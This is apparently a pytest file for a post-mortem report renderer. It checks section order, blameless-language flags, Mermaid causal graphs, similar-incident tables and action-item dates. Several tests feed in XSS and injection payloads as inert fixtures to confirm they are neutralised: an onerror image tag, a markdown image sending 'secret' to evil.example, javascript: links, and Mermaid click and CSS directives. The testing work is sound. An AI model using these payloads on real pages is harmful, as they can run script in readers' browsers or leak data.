"""The Markdown post-mortem: the brief's sections, in order, with inert incident text, its causal graph and its
similar incidents."""

import json
import re
from datetime import timedelta
from pathlib import Path

from agent_postmortem.ingest.jsonl import read_incidents
from agent_postmortem.render.html import markdown_html, no_link
from agent_postmortem.render.markdown import inline
from agent_postmortem.render.report import render_markdown
from agent_postmortem.store.models import (
    ActionItem,
    Analysis,
)
from tests.documents import live, section
from tests.factories import FIXED_NOW, capture, draft, make_service
from tests.render.samples import incident, known

SECTIONS = [
    "# Post-mortem:",
    "## Description",
    "## Timeline",
    "## Root cause analysis (draft): 5 whys",
    "### Root cause",
    "### Contributing factors",
    "### Novelty and similar past incidents",
    "## Model behavior",
    "**Deterministic or probabilistic:**",
    "## Action items",
]


def test_report_has_the_brief_sections_in_order() -> None:
    analysis = Analysis(**draft().model_dump(), generated_by="openai", llm_model="m", created_at=FIXED_NOW)
    item = ActionItem(
        id="AI-1",
        incident_id="INC-5",
        title="Strip tool output of instructions",
        owner="sec",
        priority="P0",
        created_at=FIXED_NOW,
        status="completed",
    )
    text = render_markdown(incident(analysis=analysis, action_items=[item]), similar=[], now=FIXED_NOW)
    positions = [text.index(s) for s in SECTIONS]
    assert positions == sorted(positions)
    assert "| Severity | SEV2 |" in text and "- [x] **P0** Strip tool output of instructions" in text
    assert text.count("**Why ") == 5 and "A fix must pass 50 clean runs" in text
    assert "drafted by `openai`" in text and "review before publishing" in text


def test_without_analysis_the_report_says_how_to_draft_and_asks_for_model_behavior() -> None:
    text = render_markdown(incident(), similar=[], now=FIXED_NOW)
    assert "postmortem draft INC-5" in text and "what did the model say or do" in text


def test_incident_text_cannot_inject_html_images_or_script_links() -> None:
    evil = incident(
        description="<img src=x onerror=alert(1)> ![t](https://evil.example/?q=secret) [c](javascript:alert(1))"
    )
    text = render_markdown(evil, similar=[], now=FIXED_NOW)
    assert live(text) == []  # rendered with HTML on: no raw HTML, image, or link but to our own reports
    assert inline("a & b < c") == "a & b &lt; c"


def test_the_report_lists_blaming_language_in_the_analysis() -> None:
    analysis = Analysis(**draft().model_dump(), generated_by="openai", created_at=FIXED_NOW)
    analysis = analysis.model_copy(update={"root_cause": "Human error: the on-call engineer forgot to add backoff."})
    text = render_markdown(incident(analysis=analysis), similar=[], now=FIXED_NOW)
    section = text.split("## Blameless language check")[1]
    assert 'root cause: "Human error" (human_error)' in section
    assert 'root cause: "the on-call engineer forgot" (person_as_cause)' in section
    clean = render_markdown(
        incident(analysis=Analysis(**draft().model_dump(), generated_by="x", created_at=FIXED_NOW)),
        similar=[],
        now=FIXED_NOW,
    )
    assert "No blaming language found" in clean


def test_contributing_factors_become_a_mermaid_causal_graph_that_text_cannot_break() -> None:
    from agent_postmortem.store.models import Factor, Why

    analysis = Analysis(
        whys=[Why(question="Why?", answer="Because.")],
        root_cause="The system allowed retries without backoff.",
        contributing_factors=[
            Factor(factor="no jitter in retries", effect="synchronised bursts"),
            Factor(factor="Synchronised bursts", effect="quota exhausted"),
            Factor(factor='evil"] \n click n1 "javascript:alert(1)', effect="quota exhausted"),
        ],
        generated_by="assistant",
        created_at=FIXED_NOW,
    )
    text = render_markdown(incident(analysis=analysis), similar=[], now=FIXED_NOW)
    graph = text.split("```mermaid\n")[1].split("```")[0]
    lines = graph.splitlines()
    assert lines[0] == "flowchart LR"
    assert "  n1 --> n2" in lines and "  n2 --> n3" in lines  # "synchronised bursts" continues the chain
    assert "  n3 --> incident" in lines and "  n4 --> n3" in lines
    assert not any(line.lstrip().startswith("click") for line in lines)  # the label could not add a directive


def test_similar_incidents_show_the_score_they_are_ranked_by_and_the_cosine_labelled() -> None:
    ranked = [  # ranked by the fused relevance; the cosines are not in order
        known("INC-2", 0.71).model_copy(update={"relevance": 1.4}),
        known("INC-3", 0.52).model_copy(update={"relevance": 0.9}),
        known("INC-4", 0.55).model_copy(update={"relevance": 0.2}),
    ]
    text = render_markdown(incident(novel=True), similar=ranked, now=FIXED_NOW)
    tokens = section(text, "Novelty and similar past incidents")
    header = [tokens[n + 1].content for n, t in enumerate(tokens) if t.type == "th_open"]
    assert header[:4] == ["Rank", "Incident", "Relevance", "Cosine"]
    cells = [tokens[n + 1].content for n, t in enumerate(tokens) if t.type == "td_open"]
    rows = [cells[n : n + len(header)] for n in range(0, len(cells), len(header))]
    assert [r[:4] for r in rows] == [
        ["1", "[INC-2](report://INC-2)", "1.40", "0.71"],
        ["2", "[INC-3](report://INC-3)", "0.90", "0.52"],
        ["3", "[INC-4](report://INC-4)", "0.20", "0.55"],
    ]
    relevance = [float(r[2]) for r in rows]
    assert relevance == sorted(relevance, reverse=True)  # the column the rows are ranked by is in order


def test_the_novelty_sentence_agrees_with_the_table_under_it() -> None:
    close = [known("INC-2", 0.71)]
    text = render_markdown(incident(novel=True), similar=close, now=FIXED_NOW)
    assert "nothing similar" not in text
    assert "no past incident is at least 0.72 similar in meaning (cosine); the closest is INC-2 at 0.71." in text
    text = render_markdown(incident(novel=True), similar=[known("INC-2", 0.7188)], now=FIXED_NOW)
    assert "; the closest is INC-2 at 0.718." in text  # not "at 0.72", after "no past incident is at least 0.72"
    later = [known("INC-9", 0.8).model_copy(update={"created_at": FIXED_NOW + timedelta(days=1)})]
    text = render_markdown(incident(novel=True), similar=later, now=FIXED_NOW)
    assert "novel** failure mode when it was captured" in text and "Recorded since: INC-9" in text
    text = render_markdown(incident(novel=False), similar=[known("INC-2", 0.91)], now=FIXED_NOW)
    assert "A **known** failure mode: INC-2 is 0.91 similar" in text


def test_the_heading_counts_the_whys_there_are() -> None:
    from agent_postmortem.store.models import Why

    for n in (3, 6):
        analysis = Analysis(
            whys=[Why(question=f"Why {k}?", answer="Because.") for k in range(n)],
            root_cause="The system allowed it.",
            generated_by="assistant",
            created_at=FIXED_NOW,
        )
        text = render_markdown(incident(analysis=analysis), similar=[], now=FIXED_NOW)
        assert f"## Root cause analysis (draft): {n} whys\n" in text and text.count("**Why ") == n
    assert "## Root cause analysis\n" in render_markdown(incident(), similar=[], now=FIXED_NOW)


def test_a_mermaid_directive_in_a_factor_cannot_reach_the_graph() -> None:
    from agent_postmortem.store.models import Factor, Why

    directive = "no budget %%{init:{'themeCSS':'*{background:url(//e.vil/x)}'}}%% set"
    analysis = Analysis(
        whys=[Why(question="Why?", answer="Because.")],
        root_cause="The system allowed it.",
        contributing_factors=[Factor(factor=directive, effect="quota gone #35; `md` <b>x</b> [l](u)")],
        generated_by="assistant",
        created_at=FIXED_NOW,
    )
    text = render_markdown(incident(analysis=analysis), similar=[], now=FIXED_NOW)
    graph = text.split("```mermaid\n")[1].split("```")[0]
    labels = [line.split('["', 1)[1][:-2] for line in graph.splitlines() if line.startswith("  n") and '["' in line]
    assert len(labels) == 2
    for forbidden in ("%", "{", "}", "<", ">", "`", '"', "[", "(", "url("):
        assert not any(forbidden in label for label in labels)
    assert 'n1["no budget #37;#37;#123;init#58;' in graph and "#35;35#59;" in graph  # `#` itself is encoded


def test_a_resolved_incident_without_its_resolution_time_is_not_reported_as_not_yet_resolved(tmp_path: Path) -> None:
    """Past post-mortems imported without `resolved_at` (the import's default status is resolved) read "Status:
    resolved" and "Resolved: not yet" on the same report, in the web view and the HTML file too."""
    lines = [
        {"title": "Kubernetes network infrastructure IP starvation", "created_at": "2026-11-12T10:00:00Z"},
        {"title": "Surveys SDK bug", "status": "open", "created_at": "2026-11-13T10:00:00Z"},
    ]
    path = tmp_path / "past.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    service = make_service(tmp_path / "home")
    service.import_incidents(read_incidents(path))
    resolved, still_open = service.list_incidents(order="oldest").incidents
    assert "| Status | resolved |" in (text := service.render_report(resolved.id))
    assert "| Resolved | yes (when was not recorded) |" in text and "not yet" not in text.split("## ")[0]
    assert "yes (when was not recorded)" in service.render_report(resolved.id, format="html")
    assert "| Resolved | not yet |" in service.render_report(still_open.id)


def test_a_newer_draft_or_rejection_says_which_accepted_analysis_is_still_in_use(tmp_path: Path) -> None:
    """After an accepted analysis, a newer draft (or its rejection) was all the report showed: the rejected one said
    "it feeds nothing else. Draft a new analysis.", and the accepted root cause that similar incidents, runbooks and
    later drafts still used was in no report, `show` or `get_incident`."""
    service = make_service(tmp_path / "home")
    incident_id = capture(service)
    service.record_analysis(incident_id, draft(), generated_by="assistant")
    service.review_analysis(incident_id, decision="accept", by="dana")
    assert "stays in use" not in service.render_report(incident_id)  # the accepted one is the one shown

    newer = draft().model_copy(update={"root_cause": "The fares client retried at once, with no budget per run."})
    service.record_analysis(incident_id, newer, generated_by="assistant")
    text = service.render_report(incident_id)
    in_use = re.search(r"accepted earlier by dana on [-\d: ]+ UTC stays in use, with its root cause: (.+)", text)
    assert in_use is not None and in_use[1] == inline(draft().root_cause), text
    assert "\n\n1. **Why 1?**" in text  # the list stays out of the banner's quote

    service.review_analysis(incident_id, decision="reject", by="lee", note="too shallow")
    text = service.render_report(incident_id)
    assert in_use[0] in text and "Draft a new analysis" not in text
    assert "stays in use" in service.render_report(incident_id, format="html")


def test_a_relevance_below_zero_is_read_from_the_sentence_over_the_table() -> None:
    """Two similar incidents scored relevance 1.00 and -1.00 (each against the other), and the report gave no way to
    read a negative relevance next to a cosine of 0.45."""
    ranked = [
        known("INC-2", 0.93).model_copy(update={"relevance": 1.0}),
        known("INC-3", 0.45).model_copy(update={"relevance": -1.0}),
    ]
    text = render_markdown(incident(), similar=ranked, now=FIXED_NOW)
    assert "| 2 | [INC-3](report://INC-3) | -1.00 | 0.45 |" in text
    assert "scored against the other candidates: 0 is their average, so a weaker match is below 0" in " ".join(
        text.split()
    )


def _tracked(n: int, status: str, **fields: object) -> ActionItem:
    return ActionItem.model_validate(
        {
            "id": f"AI-{n}",
            "incident_id": "INC-5",
            "title": f"<b>item</b> {n} [x](javascript:alert(1))",
            "created_at": FIXED_NOW - timedelta(days=10),
            "status": status,
            **fields,
        }
    )


def test_action_items_say_when_they_were_completed_and_how_late_and_how_long_open_ones_are_overdue() -> None:
    """The report said `[x] ... completed` with no date, and `OVERDUE` with no length: whether an item was done on time,
    or how far behind an open one is, could not be read from it. Every date in UTC, in the report's one format."""
    due = FIXED_NOW - timedelta(days=3)
    items = [
        _tracked(1, "completed", due_at=due, completed_at=due - timedelta(hours=5)),
        _tracked(2, "completed", due_at=due, completed_at=due + timedelta(days=1, hours=12)),
        _tracked(3, "completed", completed_at=FIXED_NOW - timedelta(days=1)),
        _tracked(4, "completed", due_at=due),
        _tracked(5, "open", due_at=due - timedelta(hours=12), overdue=True),
        _tracked(6, "in_progress", due_at=FIXED_NOW - timedelta(hours=2), overdue=True),
        _tracked(7, "open", due_at=FIXED_NOW + timedelta(days=1)),
    ]
    text = render_markdown(incident(action_items=items), similar=[], now=FIXED_NOW)
    lines = {m[1]: m[0] for m in re.finditer(r"^- \[.\] .*\((AI-\d);.*$", text, re.MULTILINE)}
    assert lines["AI-1"].endswith("due: 2026-11-24 12:00 UTC; completed 2026-11-24 07:00 UTC, on time)")
    assert lines["AI-2"].endswith("due: 2026-11-24 12:00 UTC; completed 2026-11-26 00:00 UTC, 1.5 days late)")
    assert lines["AI-3"].endswith("due: no date; completed 2026-11-26 12:00 UTC)")
    assert lines["AI-4"].endswith("completed on a date not recorded)")
    assert lines["AI-5"].endswith("due: 2026-11-24 00:00 UTC; open, OVERDUE by 3.5 days)")
    assert lines["AI-6"].endswith("due: 2026-11-27 10:00 UTC; in_progress, OVERDUE by 2 h)")
    assert lines["AI-7"].endswith("due: 2026-11-28 12:00 UTC; open)")
    assert all("<b>" not in line for line in lines.values()) and live(text) == []  # no HTML, no link
    html = str(markdown_html(text, graph=None, link_to=no_link))  # the web page and the exported file
    assert "completed 2026-11-26 00:00 UTC, 1.5 days late" in html and "open, OVERDUE by 3.5 days" in html
    assert "<b>" not in html and "href" not in html


def test_a_similar_incidents_long_root_cause_is_cut_at_a_word_in_the_table() -> None:
    """With public post-mortems imported, a similar incident's root cause of 2,000 characters (contributing factors
    and all) filled its table cell whole: on the incident's page the table ran 4,000 px tall in a column a few words
    wide. The cell now holds its first 200 characters, cut at a word and marked "…", as `capture` and `search`
    print it; the incident's own page has the rest."""
    cause = "Contributing factors: " + " ".join(f"factor{n} was not monitored;" for n in range(80))
    long_one = known("INC-2", 0.5).model_copy(update={"root_cause": cause})
    row = next(
        line
        for line in render_markdown(incident(), similar=[long_one], now=FIXED_NOW).splitlines()
        if line.startswith("| 1 | [INC-2](report://INC-2) |")
    )
    cell = row.rstrip(" |").rsplit(" | ", 1)[1]
    assert cell.endswith("…") and len(cell) <= 200 and cause.startswith(cell[:-1]), cell
    short = render_markdown(incident(), similar=[known("INC-2", 0.5)], now=FIXED_NOW)
    assert "| The system let page text reach the tool-calling prompt unmarked. |" in short
